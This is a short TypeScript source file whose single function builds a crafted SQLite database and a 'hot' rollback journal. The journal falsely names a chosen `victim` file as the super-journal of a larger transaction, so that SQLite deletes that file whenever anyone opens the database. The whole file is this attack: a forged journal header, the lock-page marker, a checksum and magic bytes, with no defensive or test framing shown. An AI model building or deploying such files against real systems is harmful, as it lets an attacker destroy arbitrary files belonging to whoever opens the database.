/** A database with a journal beside it that SQLite rolls back when the database is opened, whoever opens it. */

const pageSize = 4096;
const sectorSize = 512;
const magic = Buffer.from('d9d505f920a163d7', 'hex');
/** The number of the page that is never used: SQLite's sign for what follows. */
const lockPage = (1 << 30) / pageSize + 1;

/**
 * The bytes of both. The journal says that the transaction is part of a larger one, whose journal is the file `victim`:
 * SQLite deletes that once it belongs to nobody any more.
 */
export function hotJournal(victim: string): { readonly database: Buffer; readonly journal: Buffer } {
  const database = Buffer.alloc(pageSize);
  database.write('SQLite format 3\0', 'latin1');
  database.writeUInt16BE(pageSize, 16);
  Buffer.from([1, 1, 0, 64, 32, 32]).copy(database, 18);
  database.writeUInt32BE(1, 28);
  database.writeUInt32BE(4, 44);
  // The table of all tables, empty.
  Buffer.from([13, 0, 0, 0, 0, pageSize >> 8, pageSize & 255, 0]).copy(database, 100);

  const header = Buffer.alloc(sectorSize);
  magic.copy(header);
  for (const [at, value] of [0, 1, 1, sectorSize, pageSize].entries()) header.writeUInt32BE(value, 8 + 4 * at);
  const name = Buffer.from(victim);
  const number = (value: number): Buffer => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value >>> 0);
    return bytes;
  };
  const sum = name.reduce((total, byte) => total + ((byte << 24) >> 24), 0);
  const parts = [number(lockPage), name, number(name.length), number(sum), magic];
  return { database, journal: Buffer.concat([header, ...parts]) };
}
